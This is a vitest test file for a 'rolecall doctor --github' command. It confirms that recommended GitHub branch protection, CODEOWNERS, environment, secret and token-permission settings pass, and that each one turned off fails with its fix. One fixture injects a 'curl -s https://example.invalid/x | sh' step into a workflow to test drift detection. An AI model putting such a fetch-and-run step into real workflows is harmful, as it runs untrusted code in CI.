/**
 * `rolecall doctor --github` against the fake GitHub, as doctor.yml runs it: the repository
 * configured exactly as the README recommends passes every check; each recommended setting
 * switched off fails exactly its check, with the fix in the message; a token that may not see
 * a setting yields "?" naming the permission, never ✓.
 */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { TOKENS } from '../../support/fake-github/client.js';
import {
  recommendedRuleset,
  type FakeProtection,
  type FakeRepo,
} from '../../support/fake-github/index.js';
import { ENVIRONMENT } from '../../support/fake-github/recommended.js';
import {
  accessRepository,
  check,
  DOCTOR_ADMIN_TOKEN,
  notPassed,
  startHarness,
  type AccessRepository,
  type Harness,
} from './doctor-harness.js';

let h: Harness;
let ws: AccessRepository;

beforeAll(async () => {
  h = await startHarness();
});
afterAll(() => h.close());
beforeEach(async () => {
  ws = await accessRepository(h);
});
afterEach(() => ws.close());

function protection(repo: FakeRepo): FakeProtection {
  const found = repo.settings.protection.get('main');
  if (!found) throw new Error('main is not protected');
  return found;
}

function reviews(repo: FakeRepo) {
  const found = protection(repo).pullRequest;
  if (!found) throw new Error('no pull request required');
  return found;
}

const OTHER_SHA = 'a'.repeat(40);

describe('the recommended configuration', () => {
  it('passes every check, and says so in one line each', async () => {
    const run = await ws.run();
    expect(notPassed(run)).toEqual([]);
    expect(run.code).toBe(0);
    expect(run.err).toBe('doctor issue: nothing unsafe, no open issue\n');
    expect(run.checks.map((c) => c.id)).toEqual([
      'policies',
      'freshbooks.store',
      'freshbooks.refresh',
      'freshbooks.scopes',
      'freshbooks.businesses',
      'workflows.present',
      'workflows.pinned',
      'workflows.current',
      'codeowners.coverage',
      'branch.pull-request',
      'branch.approvals',
      'branch.dismiss-stale',
      'branch.code-owners',
      'branch.last-push',
      'branch.force-push',
      'branch.deletion',
      'branch.bypass',
      'codeowners.errors',
      'environment.branches',
      'secrets.environment',
      'secrets.repository',
      'secrets.token',
      'actions.pull-requests',
    ]);

    const text = await ws.run([
      '--github',
      '--token-store',
      `github-secret:FRESHBOOKS_REFRESH_TOKEN@${ENVIRONMENT}`,
    ]);
    expect(text.code).toBe(0);
    const lines = text.out.trimEnd().split('\n');
    expect(lines).toHaveLength(24);
    expect(lines.slice(0, -1).every((line) => line.startsWith('✓ '))).toBe(true);
    expect(lines.at(-1)).toBe('23 checks: 23 passed, 0 unsafe, 0 not verified');
    expect(text.out).toMatch(
      /^✓ branch\.dismiss-stale +the branch protection of main dismisses stale approvals on a new push$/m,
    );
  });

  it('from a laptop: a repository and the doctor token are enough; no issue is kept without --github', async () => {
    h.gh.clearRequests();
    const run = await ws.run(
      ['--json', '--token-store', `github-secret:FRESHBOOKS_REFRESH_TOKEN@${ENVIRONMENT}`],
      {
        GITHUB_TOKEN: undefined,
      },
    );
    expect(notPassed(run)).toEqual([]);
    expect(run.err).toBe('');
    expect(h.gh.calls().filter((r) => r.path.includes('/issues'))).toEqual([]);
  });

  it('a ruleset instead of branch protection passes too (its bypass list seen by a token that may edit it)', async () => {
    ws.repo.settings.protection.clear();
    ws.repo.settings.rulesets.push(recommendedRuleset(7));
    const run = await ws.run(undefined, { ROLECALL_DOCTOR_TOKEN: DOCTOR_ADMIN_TOKEN });
    expect(notPassed(run)).toEqual([]);
    expect(check(run, 'branch.bypass').found).toBe(
      'nobody may bypass ruleset "Protect the default branch" (id 7)',
    );
  });
});

/** [check, how the setting is switched off, the checks that then fail, part of the fix]. */
const SWITCHED_OFF: Array<[string, (ws: AccessRepository) => void, string[], string]> = [
  [
    'branch.pull-request',
    // GitHub drops the review options with it: they fail along.
    (w) => (protection(w.repo).pullRequest = null),
    [
      'branch.pull-request',
      'branch.approvals',
      'branch.dismiss-stale',
      'branch.code-owners',
      'branch.last-push',
    ],
    'Settings → Branches → the branch protection rule of `main` → "Require a pull request before merging"',
  ],
  [
    'branch.approvals',
    (w) => (reviews(w.repo).approvals = 0),
    ['branch.approvals'],
    '"Required number of approvals before merging": 1 or more',
  ],
  [
    'branch.dismiss-stale',
    (w) => (reviews(w.repo).dismissStale = false),
    ['branch.dismiss-stale'],
    '"Dismiss stale pull request approvals when new commits are pushed"',
  ],
  [
    'branch.code-owners',
    (w) => (reviews(w.repo).codeOwners = false),
    ['branch.code-owners'],
    '"Require review from Code Owners"',
  ],
  [
    'branch.last-push',
    (w) => (reviews(w.repo).lastPush = false),
    ['branch.last-push'],
    '"Require approval of the most recent reviewable push"',
  ],
  [
    'branch.force-push',
    (w) => (protection(w.repo).allowForcePushes = true),
    ['branch.force-push'],
    '"Allow force pushes" off',
  ],
  [
    'branch.deletion',
    (w) => (protection(w.repo).allowDeletions = true),
    ['branch.deletion'],
    '"Allow deletions" off',
  ],
  [
    'branch.bypass',
    (w) => (protection(w.repo).enforceAdmins = false),
    ['branch.bypass'],
    'turn on "Do not allow bypassing the above settings"',
  ],
  [
    'codeowners.errors',
    (w) =>
      (w.repo.settings.codeownersErrors = [
        {
          line: 11,
          column: 15,
          kind: 'Unknown owner',
          message:
            'Unknown owner on line 11: make sure @acme/access-admins exists and has write access to the repository\n\n  *             @acme/access-admins\n               ^',
          path: '.github/CODEOWNERS',
          source: '*             @acme/access-admins\n',
          suggestion: null,
        },
      ]),
    ['codeowners.errors'],
    'an unknown owner: a team or user that exists and has write access',
  ],
  [
    'codeowners.coverage',
    (w) => w.edits.set('.github/CODEOWNERS', (text) => text.replace(/^\*\s+.*$/m, '')),
    ['codeowners.coverage'],
    'start `.github/CODEOWNERS` with the catch-all',
  ],
  [
    'environment.branches',
    (w) => w.repo.configureEnvironment(ENVIRONMENT, { branchPolicy: null }),
    ['environment.branches'],
    `Settings → Environments → ${ENVIRONMENT} → "Deployment branches and tags": "Selected branches and tags" with the one rule \`main\``,
  ],
  [
    'secrets.environment',
    (w) => w.repo.environment(ENVIRONMENT).secrets.delete('ROLECALL_SECRETS_TOKEN'),
    ['secrets.environment'],
    `\`gh secret set NAME --env ${ENVIRONMENT}\``,
  ],
  [
    'secrets.repository',
    (w) => w.repo.setSecret('FRESHBOOKS_CLIENT_SECRET', 'a copy'),
    ['secrets.repository'],
    'delete FRESHBOOKS_CLIENT_SECRET (`gh secret delete NAME`)',
  ],
  [
    'actions.pull-requests',
    (w) => (w.repo.settings.actions.canApprovePullRequestReviews = false),
    ['actions.pull-requests'],
    'Settings → Actions → General → "Workflow permissions" → "Allow GitHub Actions to create and approve pull requests"',
  ],
  [
    'workflows.present',
    (w) => w.edits.set('.github/workflows/doctor.yml', () => null),
    ['workflows.present'],
    '`rolecall init --example /tmp/rolecall-init` writes them into an empty directory: copy .github/workflows/doctor.yml',
  ],
  [
    'workflows.pinned',
    (w) =>
      w.edits.set('.github/workflows/apply.yml', (text) =>
        text.replace(/rolecall-dev\/rolecall@[0-9a-f]{40}/, `rolecall-dev/rolecall@${OTHER_SHA}`),
      ),
    ['workflows.pinned'],
    'change the `uses:` line of rolecall in every workflow to `rolecall-dev/rolecall@',
  ],
  [
    'workflows.current',
    (w) =>
      w.edits.set('.github/workflows/drift.yml', (text) =>
        text.replace(
          '      - name: Check drift and update the issue',
          '      - run: curl -s https://example.invalid/x | sh\n      - name: Check drift and update the issue',
        ),
      ),
    ['workflows.current'],
    '.github/workflows/drift.yml from it in a pull request',
  ],
];

describe('each recommended setting switched off fails exactly its check, with the fix', () => {
  it.each(SWITCHED_OFF)('%s', async (id, switchOff, failing, fix) => {
    switchOff(ws);
    const run = await ws.run();
    expect(notPassed(run)).toEqual(failing.map((f) => `${f}: fail`));
    expect(check(run, id).fix).toContain(fix);
    expect(run.code).toBe(1);
  });

  it('branch.approvals: fewer than the lowest approvals.required of the policies', async () => {
    await ws.write(
      'policies/acme-books.yaml',
      `${await readPolicy(ws)}\napprovals:\n  required: 2\n`,
    );
    const run = await ws.run();
    expect(notPassed(run)).toEqual(['branch.approvals: fail']);
    expect(check(run, 'branch.approvals').found).toBe(
      "the branch protection of main requires too few approvals (1 required; the policies' lowest approvals.required is 2)",
    );
    reviews(ws.repo).approvals = 2;
    expect(notPassed(await ws.run())).toEqual([]);
  });

  it('branch.bypass: someone allowed to bypass required pull requests', async () => {
    reviews(ws.repo).bypassUsers = ['mallory'];
    const run = await ws.run();
    expect(notPassed(run)).toEqual(['branch.bypass: fail']);
    expect(check(run, 'branch.bypass').found).toBe(
      'may bypass — the branch protection of main: mallory (allowed to bypass pull requests)',
    );
    expect(check(run, 'branch.bypass').fix).toContain(
      'empty "Allow specified actors to bypass required pull requests"',
    );
  });

  it('branch.bypass: a ruleset with a bypass actor, and no branch protection to hold them', async () => {
    ws.repo.settings.protection.clear();
    const ruleset = recommendedRuleset(9);
    ruleset.bypassActors = [{ actor_id: 5, actor_type: 'RepositoryRole', bypass_mode: 'always' }];
    ws.repo.settings.rulesets.push(ruleset);
    const run = await ws.run(undefined, { ROLECALL_DOCTOR_TOKEN: DOCTOR_ADMIN_TOKEN });
    expect(notPassed(run)).toEqual(['branch.bypass: fail']);
    expect(check(run, 'branch.bypass').found).toBe(
      'may bypass — ruleset "Protect the default branch" (id 9): RepositoryRole 5',
    );
    expect(check(run, 'branch.bypass').fix).toBe(
      'Settings → Rules → Rulesets → the ruleset that targets `main` → "Bypass list": remove every actor',
    );
  });

  it('a ruleset only evaluated (not enforced) protects nothing', async () => {
    ws.repo.settings.protection.clear();
    const ruleset = recommendedRuleset(3);
    ruleset.enforcement = 'evaluate';
    ws.repo.settings.rulesets.push(ruleset);
    const run = await ws.run(undefined, { ROLECALL_DOCTOR_TOKEN: DOCTOR_ADMIN_TOKEN });
    const branch = run.checks.filter((c) => c.id.startsWith('branch.'));
    expect(branch.map((c) => [c.status, c.found])).toEqual(
      branch.map(() => ['fail', 'no branch protection and no ruleset on main']),
    );
  });

  it('environment.branches: another branch pattern may deploy too', async () => {
    ws.repo.configureEnvironment(ENVIRONMENT, {
      branchPolicy: {
        kind: 'custom',
        rules: [
          { name: 'main', type: 'branch' },
          { name: 'release/*', type: 'branch' },
        ],
      },
    });
    const run = await ws.run();
    expect(notPassed(run)).toEqual(['environment.branches: fail']);
    expect(check(run, 'environment.branches').found).toBe(
      `${ENVIRONMENT} may also be deployed from branch \`release/*\`; no required reviewers`,
    );
  });

  it('environment.branches: "protected branches" holds only while main is the one protected branch', async () => {
    ws.repo.configureEnvironment(ENVIRONMENT, { branchPolicy: { kind: 'protected' } });
    expect(notPassed(await ws.run())).toEqual([]);
    ws.repo.settings.branches.add('release');
    ws.repo.settings.protection.set('release', { ...protection(ws.repo) });
    const run = await ws.run();
    expect(notPassed(run)).toEqual(['environment.branches: fail']);
    expect(check(run, 'environment.branches').found).toContain(
      'and release is protected besides main',
    );
  });

  it('environment.branches: the environment is missing (its secrets with it)', async () => {
    ws.repo.environments.delete(ENVIRONMENT);
    ws.repo.environmentSettings.delete(ENVIRONMENT);
    // Without the environment's secret the store falls back to the refresh token the job has.
    const run = await ws.run(['--github', '--json'], {
      FRESHBOOKS_REFRESH_TOKEN: h.emulator.credentials.refreshToken,
    });
    expect(notPassed(run)).toEqual([
      'environment.branches: fail',
      'secrets.environment: fail',
      'secrets.token: fail',
    ]);
    expect(check(run, 'environment.branches').found).toBe(
      `the environment ${ENVIRONMENT} does not exist`,
    );
  });

  it('codeowners.coverage: the placeholder owner rolecall init writes without --owner', async () => {
    ws.edits.set('.github/CODEOWNERS', (text) =>
      text.replaceAll('@acme/access-admins', '@YOUR-ORG/access-admins'),
    );
    const run = await ws.run();
    expect(notPassed(run)).toEqual(['codeowners.coverage: fail']);
    expect(check(run, 'codeowners.coverage').fix).toBe(
      'replace @YOUR-ORG/access-admins in .github/CODEOWNERS with the team that reviews access',
    );
  });

  it('workflows.current shows the change as a diff', async () => {
    ws.edits.set('.github/workflows/expire.yml', (text) =>
      text.replace("- cron: '23 * * * *'", "- cron: '23 3 * * *'"),
    );
    const run = await ws.run();
    expect(notPassed(run)).toEqual(['workflows.current: fail']);
    const diff = check(run, 'workflows.current').diff ?? '';
    expect(diff).toContain('--- a/.github/workflows/expire.yml\trolecall init\n');
    expect(diff).toContain("-    - cron: '23 * * * *'\n+    - cron: '23 3 * * *'\n");
  });

  it('secrets.token: a secrets token that cannot even read the public key', async () => {
    const run = await ws.run(
      ['--github', '--json', '--token-store', 'file:.rolecall/credentials.json'],
      {
        ROLECALL_SECRETS_TOKEN: TOKENS.teams,
      },
    );
    expect(notPassed(run)).toEqual(['secrets.token: fail']);
    expect(check(run, 'secrets.token').found).toContain(
      'ROLECALL_SECRETS_TOKEN cannot read the public key of freshbooks-production',
    );
  });

  it('secrets.token: a read-only secrets token is refused its write before the refresh token is spent', async () => {
    const run = await ws.run(undefined, { ROLECALL_SECRETS_TOKEN: TOKENS.secretsReadOnly });
    expect(notPassed(run)).toEqual([
      'freshbooks.store: fail',
      'freshbooks.refresh: unknown',
      'freshbooks.scopes: unknown',
      'freshbooks.businesses: unknown',
      'secrets.token: fail',
    ]);
    expect(check(run, 'freshbooks.store').found).toContain(
      'ROLECALL_SECRETS_TOKEN cannot write it',
    );
    // Nothing was spent: the seed's refresh token still works.
    expect(h.emulator.control.dumpState().clients[0]?.refresh_tokens).toContain(
      h.emulator.credentials.refreshToken,
    );
  });
});

describe('a token that may not see a setting: "?", naming the permission, never ✓', () => {
  it('GITHUB_TOKEN alone cannot see branch protection nor the Actions permissions', async () => {
    const run = await ws.run(undefined, { ROLECALL_DOCTOR_TOKEN: undefined });
    expect(notPassed(run)).toEqual([
      'branch.pull-request: unknown',
      'branch.approvals: unknown',
      'branch.dismiss-stale: unknown',
      'branch.code-owners: unknown',
      'branch.last-push: unknown',
      'branch.force-push: unknown',
      'branch.deletion: unknown',
      'branch.bypass: unknown',
      'actions.pull-requests: unknown',
    ]);
    const dismiss = check(run, 'branch.dismiss-stale');
    expect(dismiss.found).toBe(
      'no ruleset on main; could not read the branch protection of main: GITHUB_TOKEN got 403 (Resource not accessible by integration)',
    );
    expect(dismiss.fix).toContain(
      'a workflow\'s GITHUB_TOKEN cannot have "Administration: read": set ROLECALL_DOCTOR_TOKEN',
    );
    // A "?" is reported and counted, but only --strict fails on it.
    expect(run.code).toBe(0);
    expect(
      (
        await ws.run(
          [
            '--github',
            '--json',
            '--strict',
            '--token-store',
            `github-secret:FRESHBOOKS_REFRESH_TOKEN@${ENVIRONMENT}`,
          ],
          { ROLECALL_DOCTOR_TOKEN: undefined },
        )
      ).code,
    ).toBe(1);
  });

  it('a user token without Administration gets 404: "?" too', async () => {
    const run = await ws.run(undefined, { ROLECALL_DOCTOR_TOKEN: TOKENS.pat });
    expect(check(run, 'branch.code-owners')).toMatchObject({
      status: 'unknown',
      fix: 'give ROLECALL_DOCTOR_TOKEN the permission "Administration: read"',
    });
    expect(check(run, 'branch.code-owners').found).toContain(
      'ROLECALL_DOCTOR_TOKEN got 404 (Not Found)',
    );
  });

  it('rulesets are readable without Administration; only who may bypass them is not', async () => {
    ws.repo.settings.protection.clear();
    ws.repo.settings.rulesets.push(recommendedRuleset(4));
    const run = await ws.run(undefined, { ROLECALL_DOCTOR_TOKEN: undefined });
    expect(notPassed(run)).toEqual(['branch.bypass: unknown', 'actions.pull-requests: unknown']);
    expect(check(run, 'branch.bypass').found).toContain(
      'could not see who may bypass ruleset "Protect the default branch" (id 4): GitHub shows a ruleset\'s bypass list only to a token that may edit it',
    );
  });

  it('a token without "Actions: read" cannot see the environment', async () => {
    h.gh.world.addToken('github_pat_no_actions_000000000000', 'rolecall-admin', {
      user: true,
      administration: 'read',
      secrets: 'read',
      actions: false,
    });
    const run = await ws.run(undefined, {
      ROLECALL_DOCTOR_TOKEN: 'github_pat_no_actions_000000000000',
    });
    expect(notPassed(run)).toEqual(['environment.branches: unknown']);
    expect(check(run, 'environment.branches').fix).toBe(
      'give ROLECALL_DOCTOR_TOKEN the permission "Actions: read"',
    );
  });

  it('without a secrets-reading token the secret names are "?"', async () => {
    const run = await ws.run(['--github', '--json'], {
      ROLECALL_DOCTOR_TOKEN: undefined,
      ROLECALL_SECRETS_TOKEN: undefined,
      FRESHBOOKS_REFRESH_TOKEN: h.emulator.credentials.refreshToken,
    });
    expect(check(run, 'secrets.environment').status).toBe('unknown');
    expect(check(run, 'secrets.repository').status).toBe('unknown');
    expect(check(run, 'secrets.token')).toMatchObject({
      status: 'unknown',
      found: 'ROLECALL_SECRETS_TOKEN is not set in this run',
    });
  });
});

async function readPolicy(access: AccessRepository): Promise<string> {
  const { readFile } = await import('node:fs/promises');
  const { join } = await import('node:path');
  return readFile(join(access.cwd, 'policies', 'acme-books.yaml'), 'utf8');
}
